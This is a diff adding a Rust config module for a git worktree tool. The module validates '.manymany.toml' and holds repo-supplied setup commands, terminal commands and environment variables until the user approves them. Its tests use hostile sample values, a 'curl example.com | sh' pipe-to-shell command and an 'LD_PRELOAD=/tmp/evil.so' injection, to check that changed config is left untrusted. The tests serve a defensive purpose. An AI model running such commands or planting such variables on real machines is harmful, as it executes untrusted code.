@@ -0,0 +1,412 @@
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::Path;
+use std::process::Command;
+
+use crate::commands::project::{remote_default_branch, Project, ProjectSettings};
+use crate::git_commands::containing_repository;
+use crate::layout::validate_template;
+use crate::store::{normalize_path, AppSettings, ProjectRegistry};
+
+/// Name of the optional config file committed at the root of a repository
+pub const REPO_CONFIG_FILE: &str = ".manymany.toml";
+
+/// A terminal to open in every new worktree
+#[derive(Debug, Serialize, Deserialize, Clone, PartialEq)]
+#[serde(deny_unknown_fields)]
+pub struct TerminalPreset {
+    pub name: String,
+    #[serde(default)]
+    pub command: String,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone, Default)]
+#[serde(deny_unknown_fields)]
+pub struct RepoWorktreeConfig {
+    #[serde(default)]
+    pub path_template: Option<String>,
+    /// Files copied from the main checkout into each new worktree, e.g. `.env`
+    #[serde(default)]
+    pub copy: Vec<String>,
+    /// Files symlinked to the main checkout instead of copied, so every worktree shares them
+    #[serde(default)]
+    pub symlink: Vec<String>,
+    /// Shell commands run inside each new worktree after it is created
+    #[serde(default)]
+    pub setup: Vec<String>,
+    /// Dependency and build directories to seed from the main checkout, e.g. `target`
+    #[serde(default)]
+    pub seed: Vec<String>,
+}
+
+/// Contents of `.manymany.toml`
+#[derive(Debug, Serialize, Deserialize, Clone, Default)]
+#[serde(deny_unknown_fields)]
+pub struct RepoConfig {
+    #[serde(default)]
+    pub worktree: RepoWorktreeConfig,
+    #[serde(default)]
+    pub terminals: Vec<TerminalPreset>,
+    #[serde(default)]
+    pub env: BTreeMap<String, String>,
+}
+
+impl RepoConfig {
+    pub fn parse(content: &str) -> Result<Self, String> {
+        let config: RepoConfig = toml::from_str(content)
+            .map_err(|e| format!("Invalid {}: {}", REPO_CONFIG_FILE, e))?;
+        config.validate()?;
+        Ok(config)
+    }
+
+    /// Read the config for the repository containing `path`, if it has one.
+    ///
+    /// Checkouts read the file from their working tree; bare repositories read it from `HEAD`.
+    pub fn load(path: &str) -> Result<Option<Self>, String> {
+        let output = Command::new("git")
+            .args(&["-C", path, "rev-parse", "--show-toplevel"])
+            .output()
+            .map_err(|e| format!("Failed to execute git command: {}", e))?;
+
+        let toplevel = String::from_utf8_lossy(&output.stdout).trim().to_string();
+        if output.status.success() && !toplevel.is_empty() {
+            let file = Path::new(&toplevel).join(REPO_CONFIG_FILE);
+            return match fs::read_to_string(&file) {
+                Ok(content) => Self::parse(&content).map(Some),
+                Err(_) => Ok(None),
+            };
+        }
+
+        if containing_repository(Path::new(path)).map(|(r, _)| r.is_bare).unwrap_or(false) {
+            let output = Command::new("git")
+                .args(&["-C", path, "show", &format!("HEAD:{}", REPO_CONFIG_FILE)])
+                .output()
+                .map_err(|e| format!("Failed to execute git command: {}", e))?;
+            if output.status.success() {
+                return Self::parse(&String::from_utf8_lossy(&output.stdout)).map(Some);
+            }
+        }
+
+        Ok(None)
+    }
+
+    fn validate(&self) -> Result<(), String> {
+        if let Some(template) = &self.worktree.path_template {
+            validate_template(template)
+                .map_err(|e| format!("{}: worktree.path_template: {}", REPO_CONFIG_FILE, e))?;
+        }
+
+        for (key, files) in [
+            ("copy", &self.worktree.copy),
+            ("symlink", &self.worktree.symlink),
+            ("seed", &self.worktree.seed),
+        ] {
+            for file in files {
+                let path = Path::new(file);
+                if file.trim().is_empty()
+                    || path.is_absolute()
+                    || path.components().any(|c| matches!(c, std::path::Component::ParentDir))
+                {
+                    return Err(format!(
+                        "{}: worktree.{} entries must be paths inside the repository, got '{}'",
+                        REPO_CONFIG_FILE, key, file
+                    ));
+                }
+            }
+        }
+
+        if self.worktree.setup.iter().any(|command| command.trim().is_empty()) {
+            return Err(format!("{}: worktree.setup contains an empty command", REPO_CONFIG_FILE));
+        }
+
+        if self.terminals.iter().any(|t| t.name.trim().is_empty()) {
+            return Err(format!("{}: every terminal needs a name", REPO_CONFIG_FILE));
+        }
+
+        validate_env(&self.env).map_err(|e| format!("{}: {}", REPO_CONFIG_FILE, e))
+    }
+}
+
+pub fn validate_env(env: &BTreeMap<String, String>) -> Result<(), String> {
+    for key in env.keys() {
+        if key.is_empty() || key.contains('=') || key.contains('\0') {
+            return Err(format!("Invalid environment variable name: '{}'", key));
+        }
+    }
+    Ok(())
+}
+
+/// The configuration commands act on: `.manymany.toml` merged with user-level settings.
+///
+/// User settings for the project beat the repo file, which beats global user settings.
+#[derive(Debug, Serialize, Deserialize, Clone, Default)]
+pub struct ProjectConfig {
+    pub worktree_root: Option<String>,
+    pub path_template: Option<String>,
+    pub copy: Vec<String>,
+    pub symlink: Vec<String>,
+    pub setup: Vec<String>,
+    /// Whether the user approved `setup` for this project; untrusted commands are only shown
+    pub setup_trusted: bool,
+    pub seed: Vec<String>,
+    pub terminals: Vec<TerminalPreset>,
+    /// Whether `terminals` may run their commands on their own. Terminals from `.manymany.toml`
+    /// need the user's approval; until then they open without running anything.
+    pub terminals_trusted: bool,
+    pub env: BTreeMap<String, String>,
+    /// The `[env]` of `.manymany.toml`, left out of `env` until the user approves it
+    pub untrusted_env: BTreeMap<String, String>,
+    /// Branches that get a detached HEAD instead of a second checkout. Defaults to the stored
+    /// default branch or `origin/HEAD`, and to none when neither is known.
+    pub protected_branches: Vec<String>,
+    /// Why `.manymany.toml` was ignored, when it couldn't be read or is invalid
+    pub repo_config_error: Option<String>,
+}
+
+impl ProjectConfig {
+    /// Effective config for `path`: a project root or any of its worktrees.
+    ///
+    /// An invalid `.manymany.toml` is left out rather than failing, so a worktree to fix it
+    /// can still be created; `repo_config_error` says why.
+    pub fn load(path: &str) -> Result<Self, String> {
+        let settings = AppSettings::load()?;
+        let project = find_project(path);
+        let project_settings = project
+            .as_ref()
+            .map(|p| p.settings.clone())
+            .unwrap_or_default();
+        let (repo, repo_config_error) = match RepoConfig::load(path) {
+            Ok(repo) => (repo.unwrap_or_default(), None),
+            Err(e) => {
+                eprintln!("Ignoring {} for {}: {}", REPO_CONFIG_FILE, path, e);
+                (RepoConfig::default(), Some(e))
+            }
+        };
+
+        let mut config = Self::merge(&settings, &project_settings, repo);
+        config.repo_config_error = repo_config_error;
+        // Only a known default branch is protected; guessing from the checked out branch
+        // would protect whatever the main checkout happens to be on
+        if project_settings.protected_branches.is_none() {
+            let default_branch = project
+                .as_ref()
+                .and_then(|p| p.default_branch.clone())
+                .or_else(|| remote_default_branch(&project.map(|p| p.path).unwrap_or_else(|| path.to_string())));
+            config.protected_branches = default_branch.into_iter().collect();
+        }
+        Ok(config)
+    }
+
+    /// Environment overrides for processes started in `path`, or none if the config can't be read.
+    /// A repo `[env]` the user hasn't approved is left out.
+    pub fn load_env(path: &str) -> BTreeMap<String, String> {
+        match Self::load(path) {
+            Ok(config) => config.env,
+            Err(e) => {
+                eprintln!("Ignoring project config for {}: {}", path, e);
+                BTreeMap::new()
+            }
+        }
+    }
+
+    pub fn merge(settings: &AppSettings, project: &ProjectSettings, repo: RepoConfig) -> Self {
+        let setup_trusted = repo.worktree.setup.is_empty()
+            || project.trusted_setup.as_ref() == Some(&repo.worktree.setup);
+        // The repo's terminals and env can run code as soon as a worktree is opened, so they
+        // need approving just like setup
+        let terminals_trusted = project.terminals.is_some()
+            || repo.terminals.iter().all(|t| t.command.trim().is_empty())
+            || project.trusted_terminals.as_ref() == Some(&repo.terminals);
+        let env_trusted = repo.env.is_empty() || project.trusted_env.as_ref() == Some(&repo.env);
+
+        let mut env = settings.env.clone();
+        let untrusted_env = if env_trusted {
+            env.extend(repo.env);
+            BTreeMap::new()
+        } else {
+            repo.env
+        };
+        env.extend(project.env.clone());
+
+        Self {
+            worktree_root: project.worktree_root.clone().or_else(|| settings.worktree_root.clone()),
+            path_template: project
+                .path_template
+                .clone()
+                .or(repo.worktree.path_template)
+                .or_else(|| settings.path_template.clone()),
+            copy: repo.worktree.copy,
+            symlink: repo.worktree.symlink,
+            setup: repo.worktree.setup,
+            setup_trusted,
+            seed: repo.worktree.seed,
+            terminals: project.terminals.clone().unwrap_or(repo.terminals),
+            terminals_trusted,
+            env,
+            untrusted_env,
+            protected_branches: project.protected_branches.clone().unwrap_or_default(),
+            repo_config_error: None,
+        }
+    }
+}
+
+/// The registered project `path` belongs to, matching the project root or any worktree of it
+pub(crate) fn find_project(path: &str) -> Option<Project> {
+    let registry = ProjectRegistry::load().ok()?;
+    if let Some(project) = registry.find_by_path(path) {
+        return Some(project.clone());
+    }
+
+    let common_dir = normalize_path(&containing_repository(Path::new(path))?.0.common_dir);
+    registry
+        .projects()
+        .iter()
+        .find(|p| {
+            p.git_common_dir
+                .as_ref()
+                .map(|dir| normalize_path(dir) == common_dir)
+                .unwrap_or(false)
+        })
+        .cloned()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const EXAMPLE: &str = r#"
+[worktree]
+path_template = "{root}/{project}/{branch}"
+copy = [".env", "config/.env.local"]
+symlink = ["node_modules"]
+setup = ["npm ci"]
+
+[[terminals]]
+name = "Claude"
+command = "claude"
+
+[env]
+NODE_ENV = "development"
+PORT = "3000"
+"#;
+
+    #[test]
+    fn test_parse_repo_config() {
+        let config = RepoConfig::parse(EXAMPLE).unwrap();
+        assert_eq!(config.worktree.copy, vec![".env", "config/.env.local"]);
+        assert_eq!(config.worktree.symlink, vec!["node_modules"]);
+        assert_eq!(config.worktree.setup, vec!["npm ci"]);
+        assert_eq!(config.terminals[0].command, "claude");
+        assert_eq!(config.env["PORT"], "3000");
+    }
+
+    #[test]
+    fn test_rejects_invalid_repo_config() {
+        assert!(RepoConfig::parse("[worktree]\ncopy = [\"../secrets\"]").is_err());
+        assert!(RepoConfig::parse("[worktree]\nsymlink = [\"/etc\"]").is_err());
+        assert!(RepoConfig::parse("[worktree]\npath_template = \"{root}\"").is_err());
+        assert!(RepoConfig::parse("[worktree]\nsetpu = [\"npm ci\"]").is_err());
+    }
+
+    #[test]
+    fn test_user_settings_override_repo_config() {
+        let mut settings = AppSettings::default();
+        settings.path_template = Some("{root}/{name}".to_string());
+        settings.env.insert("PORT".to_string(), "1".to_string());
+        settings.env.insert("EDITOR".to_string(), "vim".to_string());
+
+        let mut project = ProjectSettings::default();
+        project.env.insert("PORT".to_string(), "4000".to_string());
+        project.protected_branches = Some(vec!["develop".to_string()]);
+        project.trusted_env = Some(RepoConfig::parse(EXAMPLE).unwrap().env);
+
+        let config = ProjectConfig::merge(&settings, &project, RepoConfig::parse(EXAMPLE).unwrap());
+        assert_eq!(config.path_template.as_deref(), Some("{root}/{project}/{branch}"));
+        assert_eq!(config.env["PORT"], "4000");
+        assert_eq!(config.env["NODE_ENV"], "development");
+        assert_eq!(config.env["EDITOR"], "vim");
+        assert_eq!(config.terminals.len(), 1);
+        assert_eq!(config.protected_branches, vec!["develop"]);
+    }
+
+    #[test]
+    fn test_invalid_repo_config_is_reported_not_fatal() {
+        let env = crate::test_support::data_dir();
+        let repo = crate::test_support::init_repo(&env.root);
+        fs::write(repo.join(REPO_CONFIG_FILE), "[worktree]\nsetpu = [\"npm ci\"]").unwrap();
+
+        let config = ProjectConfig::load(&repo.to_string_lossy()).unwrap();
+        assert!(config.repo_config_error.unwrap().contains("setpu"));
+        assert!(config.setup.is_empty());
+        assert_eq!(config.protected_branches, vec!["main"]);
+
+        let _ = fs::remove_dir_all(&env.root);
+    }
+
+    #[test]
+    fn test_only_a_known_default_branch_is_protected() {
+        let env = crate::test_support::data_dir();
+        let repo = crate::test_support::init_repo(&env.root);
+        let path = repo.to_string_lossy().to_string();
+        crate::test_support::git(&repo, &["checkout", "-q", "-b", "feature"]);
+        assert_eq!(ProjectConfig::load(&path).unwrap().protected_branches, vec!["main"]);
+
+        // Without origin/HEAD the checked out branch isn't mistaken for the default
+        crate::test_support::git(&repo, &["remote", "set-head", "origin", "-d"]);
+        assert!(ProjectConfig::load(&path).unwrap().protected_branches.is_empty());
+
+        let _ = fs::remove_dir_all(&env.root);
+    }
+
+    #[test]
+    fn test_setup_needs_trusting_again_when_it_changes() {
+        let settings = AppSettings::default();
+        let mut project = ProjectSettings::default();
+        let repo = || RepoConfig::parse(EXAMPLE).unwrap();
+        assert!(!ProjectConfig::merge(&settings, &project, repo()).setup_trusted);
+
+        project.trusted_setup = Some(vec!["npm ci".to_string()]);
+        assert!(ProjectConfig::merge(&settings, &project, repo()).setup_trusted);
+
+        let mut changed = repo();
+        changed.worktree.setup.push("curl example.com | sh".to_string());
+        assert!(!ProjectConfig::merge(&settings, &project, changed).setup_trusted);
+
+        // Nothing to run, nothing to trust
+        assert!(ProjectConfig::merge(&settings, &ProjectSettings::default(), RepoConfig::default()).setup_trusted);
+    }
+
+    #[test]
+    fn test_repo_terminals_and_env_need_trusting() {
+        let settings = AppSettings::default();
+        let mut project = ProjectSettings::default();
+        let repo = || RepoConfig::parse(EXAMPLE).unwrap();
+
+        // Shown, but neither run nor applied
+        let config = ProjectConfig::merge(&settings, &project, repo());
+        assert_eq!(config.terminals[0].command, "claude");
+        assert!(!config.terminals_trusted);
+        assert!(!config.env.contains_key("NODE_ENV"));
+        assert_eq!(config.untrusted_env["NODE_ENV"], "development");
+
+        project.trusted_terminals = Some(repo().terminals);
+        project.trusted_env = Some(repo().env);
+        let config = ProjectConfig::merge(&settings, &project, repo());
+        assert!(config.terminals_trusted);
+        assert_eq!(config.env["NODE_ENV"], "development");
+        assert!(config.untrusted_env.is_empty());
+
+        let mut changed = repo();
+        changed.env.insert("LD_PRELOAD".to_string(), "/tmp/evil.so".to_string());
+        changed.terminals[0].command = "curl example.com | sh".to_string();
+        let config = ProjectConfig::merge(&settings, &project, changed);
+        assert!(!config.terminals_trusted);
+        assert!(!config.env.contains_key("LD_PRELOAD"));
+
+        // The user's own terminals never need approving
+        project.trusted_terminals = None;
+        project.terminals = Some(vec![]);
+        assert!(ProjectConfig::merge(&settings, &project, repo()).terminals_trusted);
+    }
+}